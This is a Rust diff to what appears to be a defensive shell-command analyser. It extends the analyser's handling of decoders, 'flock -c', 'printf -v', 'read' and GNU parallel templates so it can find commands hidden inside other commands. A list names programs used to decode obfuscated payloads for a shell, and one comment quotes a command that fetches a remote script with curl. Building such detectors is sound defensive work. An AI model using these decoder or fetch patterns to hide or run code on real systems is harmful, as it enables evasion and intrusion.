@@ -11,8 +11,8 @@ const MAX_WRAPPERS: usize = 32;
 
 /// Programs that turn hidden text into code when piped into a shell.
 const DECODERS: &[&str] = &[
-    "base64", "base32", "xxd", "tr", "rev", "openssl", "printf", "gunzip", "zcat", "uudecode",
-    "basenc",
+    "base64", "base32", "xxd", "tr", "rev", "openssl", "printf", "gunzip", "gzip", "zcat",
+    "uudecode", "basenc",
 ];
 
 /// The `via` marker of commands that came out of a decoded payload.
@@ -74,6 +74,14 @@ impl Eval<'_> {
                 break;
             }
             let (own, rest) = split_wrapper(spec, &fields[1..]);
+            // `flock FILE -c CMD` runs CMD through a shell; `special` handles it.
+            if name == "flock"
+                && rest
+                    .first()
+                    .is_some_and(|f| f.text == "-c" || f.text.starts_with("--command"))
+            {
+                break;
+            }
             let mut rest = rest.to_vec();
             // `env -S 'cmd args'` splits its string into words.
             if name == "env" {
@@ -115,8 +123,14 @@ impl Eval<'_> {
 
     fn finish(&mut self, mut cmd: Command, fields: &[Field]) -> Option<Command> {
         cmd.path = fields[0].text.clone();
-        cmd.program = program_name(&cmd.path);
         cmd.dynamic = fields[0].dynamic;
+        // An unresolved word (`$(curl -s http://x/a.sh)`) has no basename to
+        // speak of: keep it whole so no program rule matches a fragment.
+        cmd.program = if cmd.dynamic {
+            cmd.path.to_lowercase()
+        } else {
+            program_name(&cmd.path)
+        };
         cmd.args = fields[1..].iter().map(|f| f.text.clone()).collect();
         for (name, value) in cmd.env.clone() {
             if COMMAND_ENV_VARS.contains(&name.as_str()) {
@@ -193,9 +207,19 @@ impl Eval<'_> {
                     self.vars.remove(arg);
                 }
             }
+            "printf" if cmd.args.first().is_some_and(|a| a == "-v") => {
+                // `printf -v NAME FORMAT ARGS` stores the output in NAME.
+                if let (Some(name), Some(value)) = (
+                    cmd.args.get(1),
+                    super::decode::printf(&cmd.args[2.min(cmd.args.len())..]),
+                ) {
+                    self.vars.insert(name.clone(), vec![value]);
+                }
+            }
+            "read" => self.read(cmd),
             "xargs" => self.xargs(cmd, args),
             "find" => self.find(cmd, args),
-            "parallel" => self.parallel(cmd, args),
+            "parallel" => self.parallel(args),
             "watch" => {
                 let (_, rest) = split_options(&cmd.args, &["-n", "--interval", "-d", "-q"]);
                 if !rest.is_empty() {
@@ -334,6 +358,42 @@ impl Eval<'_> {
                     }
                 }
             }
+        }
+    }
+
+    /// `read [-r] [-a ARRAY] NAME...` from known input sets variables.
+    fn read(&mut self, cmd: &Command) {
+        const VALUED: &[&str] = &["-p", "-d", "-n", "-N", "-t", "-u", "-a"];
+        let mut names = Vec::new();
+        let mut array = None;
+        let mut iter = cmd.args.iter();
+        while let Some(arg) = iter.next() {
+            if arg == "-a" {
+                array = iter.next().cloned();
+            } else if VALUED.contains(&arg.as_str()) {
+                iter.next();
+            } else if !arg.starts_with('-') {
+                names.push(arg.clone());
+            }
+        }
+        let Some(text) = &cmd.stdin else { return };
+        let line = text.lines().next().unwrap_or("");
+        let words: Vec<String> = line.split_whitespace().map(str::to_string).collect();
+        if let Some(array) = array {
+            self.vars.insert(array, words);
+            return;
+        }
+        if names.is_empty() {
+            names.push("REPLY".into());
+        }
+        for (i, name) in names.iter().enumerate() {
+            // The last name takes the rest of the line.
+            let value = if i + 1 == names.len() {
+                words.get(i..).map(|w| w.join(" ")).unwrap_or_default()
+            } else {
+                words.get(i).cloned().unwrap_or_default()
+            };
+            self.vars.insert(name.clone(), vec![value]);
         }
     }
 
@@ -574,30 +634,69 @@ impl Eval<'_> {
         }
     }
 
-    fn parallel(&mut self, cmd: &Command, args: &[Field]) {
-        let sep = args.iter().position(|f| f.text.starts_with(":::"));
-        let (command, inputs) = match sep {
-            Some(p) => (&args[..p], &args[p + 1..]),
-            None => (args, &[][..]),
+    /// `parallel CMD ::: inputs`: CMD is a shell template run once per
+    /// input, with `{}` (and `{.}`, `{/}`, ...) replaced or the input appended.
+    fn parallel(&mut self, args: &[Field]) {
+        const VALUED: &[&str] = &[
+            "-j",
+            "-P",
+            "-S",
+            "-n",
+            "-N",
+            "-a",
+            "-d",
+            "-I",
+            "-C",
+            "--jobs",
+            "--sshlogin",
+            "--delay",
+            "--timeout",
+            "--joblog",
+            "--results",
+            "--arg-file",
+            "--colsep",
+            "--delimiter",
+        ];
+        let mut i = 0;
+        while i < args.len() && args[i].text.starts_with('-') && !args[i].text.starts_with(":::") {
+            i += if VALUED.contains(&args[i].text.as_str()) {
+                2
+            } else {
+                1
+            };
+        }
+        let rest = args.get(i..).unwrap_or(&[]);
+        let sep = rest.iter().position(|f| f.text.starts_with(":::"));
+        let (template, inputs) = match sep {
+            Some(p) => (&rest[..p], &rest[p + 1..]),
+            None => (rest, &[][..]),
         };
-        let command: Vec<Field> = command
+        let template = template
             .iter()
-            .skip_while(|f| f.text.starts_with('-'))
-            .cloned()
-            .collect();
-        let inputs: Vec<Field> = inputs
+            .map(|f| f.text.as_str())
+            .collect::<Vec<_>>()
+            .join(" ");
+        let mut inputs: Vec<&str> = inputs
             .iter()
-            .filter(|f| !f.text.starts_with(":::"))
-            .cloned()
+            .map(|f| f.text.as_str())
+            .filter(|t| !t.starts_with(":::"))
+            .take(16)
             .collect();
-        if command.is_empty() {
-            for input in inputs {
-                self.reanalyze(&input.text, "parallel", None);
-            }
-        } else {
-            let mut fields = command;
-            fields.extend(inputs);
-            self.nested(cmd, fields, "parallel");
+        // Without `:::` the inputs come from stdin, which warden cannot see.
+        if inputs.is_empty() && !template.is_empty() {
+            inputs.push("$(parallel input)");
+        }
+        for input in inputs {
+            let line = if template.is_empty() {
+                input.to_string()
+            } else if template.contains('{') {
+                ["{}", "{.}", "{/}", "{//}", "{/.}", "{1}"]
+                    .iter()
+                    .fold(template.clone(), |t, r| t.replace(r, input))
+            } else {
+                format!("{template} {input}")
+            };
+            self.reanalyze(&line, "parallel", None);
         }
     }
 
